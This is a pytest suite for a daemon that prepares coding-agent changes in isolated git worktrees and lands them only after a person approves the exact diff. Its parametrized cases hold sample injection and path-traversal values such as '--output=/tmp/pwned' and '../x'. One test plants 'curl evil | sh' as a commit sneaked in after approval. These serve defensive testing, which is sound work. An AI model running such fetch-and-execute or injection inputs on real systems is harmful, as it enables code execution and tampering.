"""Code tasks (issue 16): prepared in a worktree of their own, approved as the exact diff,
landed at most once. Real git repos under tmp_path; the agent is a small script."""

from __future__ import annotations

import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from code_support import code_task, git, make_repo, trailers, write_config
from conftest import Clock, files_in, make_files, move, note, parsed

from daemon.core import failpoints
from daemon.lifecycle.lookups import LookupSchedule
from daemon.service.app import App, open_app

SECRET = "odoo-secret-that-must-not-leak-4711"  # noqa: S105 - a made-up value to leak


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return make_repo(tmp_path / "repos" / "demo")


@pytest.fixture
def state(tmp_path: Path) -> Path:
    return tmp_path / "state with spaces"  # the spec's path has spaces in it


def open_code_app(vault_root: Path, state: Path, config: Path) -> App:
    app = open_app(vault_root, state_dir=state, config_path=config, dry_run=False)
    app.pipeline.executor.lookups = LookupSchedule(budget=0)
    return app


@pytest.fixture
def code_app(vault_root: Path, state: Path, tmp_path: Path, repo: Path) -> Iterator[App]:
    application = open_code_app(vault_root, state, write_config(tmp_path, repo))
    yield application
    application.close()


def drop(vault_root: Path, app: App, name: str = "change.md", **fields: object) -> Path:
    make_files(vault_root, {f"Needs_Action/{name}": note(code_task(**fields))})  # type: ignore[arg-type]
    return app.pipeline.process(vault_root / "Needs_Action" / name).path


# --- hostile input: nothing is prepared, the repo is untouched ---------------------------


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        ({"repo": "../x"}, "repo"),
        ({"repo": "demo/../../etc"}, "repo"),
        ({"repo": "elsewhere"}, "repo"),  # a plain name, not in [code.repos]
        ({"target": "--force"}, "target"),
        ({"target": "-x"}, "target"),
        ({"base": "--output=/tmp/pwned"}, "base"),
        ({"base": "main..evil"}, "base"),
        ({"base": "no-such-branch"}, "base"),
        ({"target": "no-such-branch"}, "target"),
        ({"checks": "make test"}, "checks"),  # a string would need a shell
    ],
)
def test_a_hostile_or_unknown_name_is_rejected_naming_the_field(
    code_app: App, vault_root: Path, repo: Path, state: Path, *, fields: dict, field: str
):
    before = git(repo, "for-each-ref")
    path = drop(vault_root, code_app, **fields)
    assert path.parent.name == "Rejected"
    assert parsed(path).meta["error"].startswith(f"{field}:")
    assert git(repo, "for-each-ref") == before  # no branch, no worktree
    assert not (state / "worktrees").exists() or not any((state / "worktrees").iterdir())


@pytest.mark.parametrize(
    ("task", "says"),
    [
        ("FAIL", "exited with status 3"),
        ("NOTHING", "changed nothing"),
        ("HANG", "did not finish within 0.5 s"),
    ],
)
def test_an_agent_that_fails_hangs_or_does_nothing_is_rejected(
    vault_root: Path, state: Path, tmp_path: Path, repo: Path, *, task: str, says: str
):
    app = open_code_app(vault_root, state, write_config(tmp_path, repo, timeout_s=0.5))
    try:
        path = drop(vault_root, app, task=task)
    finally:
        app.close()
    assert path.parent.name == "Rejected"
    assert says in parsed(path).meta["error"]
    assert git(repo, "log", "--format=%s", "main") == "Initial commit"


def test_an_agent_that_writes_into_the_main_checkout_is_rejected(
    code_app: App, vault_root: Path, repo: Path
):
    path = drop(vault_root, code_app, task=f"OUTSIDE {repo}")
    assert path.parent.name == "Rejected"
    assert "outside its worktree" in parsed(path).meta["error"]
    assert git(repo, "log", "--format=%s", "main") == "Initial commit"


def test_the_agent_never_sees_vaultds_secrets(
    code_app: App, vault_root: Path, state: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv("ODOO_API_KEY", SECRET)
    monkeypatch.setenv("VAULTD_JWT_SECRET", SECRET)
    path = drop(vault_root, code_app, task="ENV")
    assert path.parent.name == "Pending_Approval"
    task_id = parsed(path).meta["id"]
    seen = (state / "worktrees" / task_id / "env.txt").read_text()
    assert "PATH=" in seen
    assert SECRET not in seen
    assert "ODOO" not in seen and "VAULTD" not in seen


# --- the request shows the exact diff ----------------------------------------------------


def test_a_code_task_waits_for_a_person_with_its_exact_diff(
    code_app: App, vault_root: Path, repo: Path, state: Path
):
    path = drop(vault_root, code_app, task="COMMIT", checks=["git", "diff", "--quiet", "HEAD"])
    assert path.parent.name == "Pending_Approval"
    meta, text = parsed(path).meta, path.read_text()
    code = meta["code"]
    task_id = meta["id"]
    assert code["branch"] == f"vaultd/{task_id}"
    assert code["base_sha"] == git(repo, "rev-parse", "main")
    assert code["head_sha"] == git(repo, "rev-parse", f"vaultd/{task_id}")
    # The agent's commit, then vaultd's commit of what it left uncommitted.
    assert git(repo, "log", "--format=%s", f"main..vaultd/{task_id}").splitlines() == [
        f"Uncommitted work of vaultd task {task_id}",
        "Add greeting",
    ]
    patch = (state / "code" / task_id / f"{code['diff_sha256']}.patch").read_bytes()
    import hashlib

    assert hashlib.sha256(patch).hexdigest() == code["diff_sha256"]
    assert (
        patch
        == git(
            repo, "diff", "--binary", "--full-index", code["base_sha"], code["head_sha"]
        ).encode()
        + b"\n"
    )
    assert code["checks_exit"] == 0
    for shown in (
        code["base_sha"],
        code["head_sha"],
        code["diff_sha256"],
        "+changed by the agent",
        "greeting.txt",
        "passed",
    ):
        assert shown in text
    assert {f["path"] for f in code["files"]} == {"README.md", "greeting.txt"}
    assert meta["approval"]["rule"] == "code_change"
    # The main checkout is as it was.
    assert git(repo, "status", "--porcelain") == ""
    assert git(repo, "log", "--format=%s", "main") == "Initial commit"


def test_a_long_patch_is_cut_in_the_note_and_kept_whole_beside_it(
    vault_root: Path, state: Path, tmp_path: Path, repo: Path
):
    app = open_code_app(vault_root, state, write_config(tmp_path, repo, shown_patch_lines="3"))
    try:
        path = drop(vault_root, app, task="COMMIT")
    finally:
        app.close()
    text = path.read_text()
    assert "first 3 of" in text
    assert "+changed by the agent" not in text  # past the third line
    assert str(state / "code") in text


def test_a_code_task_is_never_auto_approved_even_from_a_person(code_app: App, vault_root: Path):
    path = drop(vault_root, code_app)
    assert path.parent.name == "Pending_Approval"
    assert files_in(vault_root, "Approved") == []


# --- landing -------------------------------------------------------------------------------


def test_an_approved_code_task_lands_once_with_its_trailer(
    code_app: App, vault_root: Path, repo: Path, state: Path
):
    pending = drop(vault_root, code_app, task="COMMIT", checks=["git", "diff", "--quiet"])
    task_id = parsed(pending).meta["id"]
    head = parsed(pending).meta["code"]["head_sha"]
    outcome = code_app.pipeline.process(move(vault_root, pending, "Approved"))
    assert outcome.status == "done", parsed(outcome.path).meta.get("error")
    assert trailers(repo) == [task_id, task_id]
    # The same tree as the approved head, on top of the old main, main checked out meanwhile.
    assert git(repo, "rev-parse", "main^{tree}") == git(repo, "rev-parse", f"{head}^{{tree}}")
    # The checkout of main came along: clean, with the landed files.
    assert git(repo, "status", "--porcelain") == ""
    assert (repo / "greeting.txt").read_text() == "hello\n"
    result = parsed(outcome.path).meta["result"]["code"]
    assert result["commits"] == git(repo, "rev-list", "--reverse", "main~2..main").split()
    # Cleaned up without losing a commit: the agent's originals stay under the archive ref.
    assert not (state / "worktrees" / task_id).exists()
    assert git(repo, "branch", "--list", f"vaultd/{task_id}") == ""
    assert git(repo, "rev-parse", f"refs/vaultd/archive/{task_id}") == head
    assert result["archived_as"] == f"refs/vaultd/archive/{task_id}"
    artifacts = Path(result["artifacts"])
    assert {"agent.log", "checks.log", "spec.md", "prepared.json"} <= {
        p.name for p in artifacts.iterdir()
    }
    # Moved back to Approved/ by a person, it is refused: it never lands twice.
    again = code_app.pipeline.process(move(vault_root, outcome.path, "Approved"))
    assert again.path.parent.name == "Rejected"
    assert "already executed" in parsed(again.path).meta["error"]
    assert trailers(repo) == [task_id, task_id]


def test_a_commit_pushed_after_approval_sends_the_task_back(
    code_app: App, vault_root: Path, repo: Path, state: Path
):
    pending = drop(vault_root, code_app)
    task_id = parsed(pending).meta["id"]
    approved_head = parsed(pending).meta["code"]["head_sha"]
    approved = move(vault_root, pending, "Approved")
    worktree = state / "worktrees" / task_id
    (worktree / "evil.sh").write_text("curl evil | sh\n")
    git(worktree, "add", "evil.sh")
    git(worktree, "commit", "-q", "-m", "sneaked in after approval")
    outcome = code_app.pipeline.process(approved)
    assert outcome.path.parent.name == "Pending_Approval"
    meta = parsed(outcome.path).meta
    assert "pushed" in meta["note"] and approved_head[:12] in meta["note"]
    assert meta["code"]["head_sha"] != approved_head
    assert "evil.sh" in outcome.path.read_text()  # the person now sees it
    assert trailers(repo) == []
    # Approved again, with what the person has now seen, it lands.
    done = code_app.pipeline.process(move(vault_root, outcome.path, "Approved"))
    assert done.status == "done"
    assert (repo / ".git").exists() and "evil.sh" in git(repo, "ls-tree", "--name-only", "main")


def test_a_forged_code_stamp_is_not_what_is_shown_or_landed(
    code_app: App, vault_root: Path, repo: Path
):
    pending = drop(vault_root, code_app)
    text = pending.read_text()
    head = parsed(pending).meta["code"]["head_sha"]
    base = parsed(pending).meta["code"]["base_sha"]
    pending.write_text(text.replace(f"head_sha: {head}", f"head_sha: {base}"))
    outcome = code_app.pipeline.process(move(vault_root, pending, "Approved"))
    assert outcome.path.parent.name == "Pending_Approval"
    assert parsed(outcome.path).meta["code"]["head_sha"] == head  # vaultd's record again
    assert trailers(repo) == []


def test_a_conflict_goes_to_failed_with_its_files_and_the_target_untouched(
    code_app: App, vault_root: Path, repo: Path
):
    pending = drop(vault_root, code_app)
    (repo / "README.md").write_text("# Demo\nchanged on main meanwhile\n")
    git(repo, "commit", "-q", "-am", "Concurrent change")
    main_before = git(repo, "rev-parse", "main")
    outcome = code_app.pipeline.process(move(vault_root, pending, "Approved"))
    assert outcome.path.parent.name == "Failed"
    assert "conflicts in: README.md" in parsed(outcome.path).meta["error"]
    assert git(repo, "rev-parse", "main") == main_before
    assert git(repo, "status", "--porcelain") == ""
    assert len(git(repo, "worktree", "list").splitlines()) == 2  # main + the task's


# --- crashes while landing: never twice, never lost -------------------------------------------


@pytest.mark.parametrize("point", failpoints.POINTS)
def test_a_crash_at_any_step_of_landing_lands_exactly_once(
    vault_root: Path, state: Path, tmp_path: Path, repo: Path, point: str
):
    config = write_config(tmp_path, repo)
    app = open_code_app(vault_root, state, config)
    pending = drop(vault_root, app, task="COMMIT")
    task_id = parsed(pending).meta["id"]
    approved = move(vault_root, pending, "Approved")
    failpoints.arm([point])
    try:
        with pytest.raises(failpoints.Crashed):
            app.pipeline.process(approved)
    finally:
        failpoints.disarm()
        app.close()
    app = open_code_app(vault_root, state, config)  # the restart
    try:
        app.pipeline.reconcile()
        for folder in ("Approved", "Done", "Failed"):
            for name in files_in(vault_root, folder):
                if folder == "Approved":
                    app.pipeline.process(vault_root / folder / name)
    finally:
        app.close()
    assert trailers(repo) == [task_id, task_id]  # landed, and once
    assert files_in(vault_root, "Done") == ["change.md"]
    assert list((vault_root / "Approved").iterdir()) == []


def test_failing_checks_are_shown_as_failed_in_the_request(code_app: App, vault_root: Path):
    path = drop(vault_root, code_app, checks=["git", "diff", "--quiet", "HEAD~1"])
    assert parsed(path).meta["code"]["checks_exit"] == 1
    assert "FAILED (exit 1)" in path.read_text()


def test_a_dirty_checkout_of_the_target_fails_the_landing_and_keeps_its_edits(
    code_app: App, vault_root: Path, repo: Path
):
    pending = drop(vault_root, code_app)
    (repo / "README.md").write_text("# Demo\nsomeone's unsaved work\n")
    main_before = git(repo, "rev-parse", "main")
    outcome = code_app.pipeline.process(move(vault_root, pending, "Approved"))
    assert outcome.path.parent.name == "Failed"
    assert "uncommitted changes" in parsed(outcome.path).meta["error"]
    assert git(repo, "rev-parse", "main") == main_before
    assert (repo / "README.md").read_text() == "# Demo\nsomeone's unsaved work\n"


def test_a_worktree_edited_after_approval_lands_the_approved_head_and_is_kept(
    code_app: App, vault_root: Path, repo: Path, state: Path
):
    pending = drop(vault_root, code_app)
    task_id = parsed(pending).meta["id"]
    worktree = state / "worktrees" / task_id
    (worktree / "notes.txt").write_text("work in progress, never committed\n")
    outcome = code_app.pipeline.process(move(vault_root, pending, "Approved"))
    assert outcome.status == "done"
    assert "notes.txt" not in git(repo, "ls-tree", "--name-only", "main")
    assert (worktree / "notes.txt").exists()  # not removed: it holds uncommitted work
    assert "changes not committed" in parsed(outcome.path).meta["result"]["code"]["kept"][0]
    assert git(repo, "branch", "--list", f"vaultd/{task_id}") != ""


def test_a_rejected_task_is_cleaned_up_and_its_commits_archived(
    code_app: App, vault_root: Path, repo: Path, state: Path
):
    rejected = drop(vault_root, code_app, name="no.md", task="COMMIT")
    waiting = drop(vault_root, code_app, name="wait.md")
    rejected_id, waiting_id = parsed(rejected).meta["id"], parsed(waiting).meta["id"]
    head = git(repo, "rev-parse", f"vaultd/{rejected_id}")
    assert code_app.pipeline.process(move(vault_root, rejected, "Rejected")).status == "rejected"
    assert not (state / "worktrees" / rejected_id).exists()
    assert git(repo, "branch", "--list", f"vaultd/{rejected_id}") == ""
    assert git(repo, "rev-parse", f"refs/vaultd/archive/{rejected_id}") == head
    assert git(repo, "log", "--format=%s", head).startswith("Uncommitted work")  # not lost
    # The other task, still pending, is untouched.
    assert git(repo, "branch", "--list", f"vaultd/{waiting_id}") != ""
    assert (state / "worktrees" / waiting_id).exists()


def test_a_diff_over_the_limit_is_rejected_before_anyone_is_asked(
    vault_root: Path, state: Path, tmp_path: Path, repo: Path
):
    app = open_code_app(vault_root, state, write_config(tmp_path, repo, max_diff_bytes="1000"))
    try:
        path = drop(vault_root, app, task="BIG")
    finally:
        app.close()
    assert path.parent.name == "Rejected"
    assert "at most 1,000 are shown" in parsed(path).meta["error"]


def test_a_forged_stamp_on_a_pending_request_is_put_back_as_prepared(
    code_app: App, vault_root: Path
):
    pending = drop(vault_root, code_app)
    original = parsed(pending).meta
    head, base = original["code"]["head_sha"], original["code"]["base_sha"]
    pending.write_text(pending.read_text().replace(f"head_sha: {head}", f"head_sha: {base}"))
    again = code_app.pipeline.process(pending)
    assert again.path.parent.name == "Pending_Approval"
    now = parsed(again.path).meta
    assert now["code"] == original["code"]
    assert now["approval"]["payload_hash"] == original["approval"]["payload_hash"]


def test_a_patch_file_swapped_after_the_request_is_not_approved(
    code_app: App, vault_root: Path, repo: Path, state: Path
):
    pending = drop(vault_root, code_app)
    meta = parsed(pending).meta
    patch = state / "code" / meta["id"] / f"{meta['code']['diff_sha256']}.patch"
    patch.write_text("diff --git a/harmless b/harmless\n")
    outcome = code_app.pipeline.process(move(vault_root, pending, "Approved"))
    assert outcome.path.parent.name == "Pending_Approval"
    assert "is missing or is not the diff above: do not approve" in outcome.path.read_text()
    assert trailers(repo) == []


def test_in_dry_run_a_code_task_is_proven_to_apply_and_nothing_moves(
    vault_root: Path, state: Path, tmp_path: Path, repo: Path
):
    app = open_app(vault_root, state_dir=state, config_path=write_config(tmp_path, repo))
    try:
        pending = drop(vault_root, app)
        outcome = app.pipeline.process(move(vault_root, pending, "Approved"))
    finally:
        app.close()
    assert outcome.status == "done"
    result = parsed(outcome.path).meta["result"]["code"]
    assert result["dry_run"] is True and len(result["commits"]) == 1
    assert git(repo, "log", "--format=%s", "main") == "Initial commit"
    assert trailers(repo) == []


def test_what_the_agent_leaves_running_is_killed_with_it(
    code_app: App, vault_root: Path, state: Path
):
    path = drop(vault_root, code_app, task="LINGER")
    worktree = state / "worktrees" / parsed(path).meta["id"]
    time.sleep(1)  # the lingering child would have written by now
    assert not (worktree / "late.txt").exists()


def test_a_bare_repo_is_prepared_and_landed_too(vault_root: Path, state: Path, tmp_path: Path):
    checkout = make_repo(tmp_path / "checkout")
    bare = tmp_path / "demo.git"
    git(tmp_path, "clone", "-q", "--bare", str(checkout), str(bare))
    app = open_code_app(vault_root, state, write_config(tmp_path, bare))
    try:
        pending = drop(vault_root, app, task="COMMIT")
        task_id = parsed(pending).meta["id"]
        outcome = app.pipeline.process(move(vault_root, pending, "Approved"))
    finally:
        app.close()
    assert outcome.status == "done", parsed(outcome.path).meta.get("error")
    assert trailers(bare) == [task_id, task_id]


@pytest.mark.parametrize(("key", "value"), [("task", "Something else"), ("base", "HEAD")])
def test_a_pending_code_task_whose_instructions_are_edited_is_rejected_not_relabelled(
    code_app: App, vault_root: Path, *, key: str, value: str
):
    pending = drop(vault_root, code_app)
    text = pending.read_text()
    old = parsed(pending).meta[key]
    pending.write_text(text.replace(f"{key}: {old}\n", f"{key}: {value}\n", 1))
    outcome = code_app.pipeline.process(pending)
    assert outcome.path.parent.name == "Rejected"
    assert parsed(outcome.path).meta["error"].startswith(f"{key}: changed after the change")


def test_squash_lands_the_approved_diff_as_one_commit_with_the_trailer(
    vault_root: Path, state: Path, tmp_path: Path, repo: Path
):
    app = open_code_app(vault_root, state, write_config(tmp_path, repo, land='"squash"'))
    try:
        pending = drop(vault_root, app, task="COMMIT")
        task_id, head = parsed(pending).meta["id"], parsed(pending).meta["code"]["head_sha"]
        outcome = app.pipeline.process(move(vault_root, pending, "Approved"))
    finally:
        app.close()
    assert outcome.status == "done", parsed(outcome.path).meta.get("error")
    assert trailers(repo) == [task_id]
    assert git(repo, "log", "-1", "--format=%s", "main") == "COMMIT"
    assert git(repo, "rev-parse", "main^{tree}") == git(repo, "rev-parse", f"{head}^{{tree}}")


def test_git_hooks_an_agent_plants_never_run_as_vaultd(
    code_app: App, vault_root: Path, repo: Path, tmp_path: Path
):
    ran = tmp_path / "hook-ran.txt"
    rejected = drop(vault_root, code_app, task=f"HOOK {ran}")
    assert (repo / ".git" / "hooks" / "post-commit").exists()  # planted
    assert "changed the git settings" in parsed(rejected).meta["error"]
    # Planted before the task, by anyone: vaultd's own commits and cherry-picks skip them.
    pending = drop(vault_root, code_app, name="second.md")  # an agent that does not commit
    outcome = code_app.pipeline.process(move(vault_root, pending, "Approved"))
    assert outcome.status == "done"
    assert not ran.exists()  # no hook ran


def test_an_agent_that_rewrites_the_repos_git_config_is_rejected(
    code_app: App, vault_root: Path, repo: Path
):
    path = drop(vault_root, code_app, task=f"CONFIG {repo / '.git' / 'config'}")
    assert path.parent.name == "Rejected"
    assert "changed the git settings" in parsed(path).meta["error"]


def test_a_landing_retried_after_the_ledger_lost_it_is_not_landed_again(
    code_app: App, vault_root: Path, repo: Path, state: Path
):
    from daemon.connectors.code import CodeConnector

    pending = drop(vault_root, code_app, task="COMMIT")
    task_id = parsed(pending).meta["id"]
    action = code_app.pipeline.process(move(vault_root, pending, "Approved"))
    assert action.status == "done"
    landed = git(repo, "rev-parse", "main")
    # Called again by anything (a retry after a failure that should not have been): the
    # target already holds the task's commits, so it returns them and lands nothing.
    from daemon.core.taskfile import read_task_file, validate_note

    connector = code_app.pipeline.connectors["code"]
    assert isinstance(connector, CodeConnector)
    again = connector.execute(
        validate_note(read_task_file(action.path).note),
        marker=f"vaultd:{task_id}:code",
        dry_run=False,
    )
    assert again["head"] == landed
    assert git(repo, "rev-parse", "main") == landed
    assert trailers(repo) == [task_id, task_id]


def test_an_expired_code_task_is_cleaned_up_too(
    code_app: App, vault_root: Path, repo: Path, state: Path
):
    clock = Clock()
    code_app.pipeline.clock = clock
    pending = drop(vault_root, code_app)
    task_id = parsed(pending).meta["id"]
    head = git(repo, "rev-parse", f"vaultd/{task_id}")
    clock.advance(hours=49)
    (expired,) = code_app.pipeline.expire_due()
    assert expired.path.parent.name == "Rejected"
    code_app.pipeline.process(expired.path)  # the watcher's look at Rejected/
    assert not (state / "worktrees" / task_id).exists()
    assert git(repo, "rev-parse", f"refs/vaultd/archive/{task_id}") == head
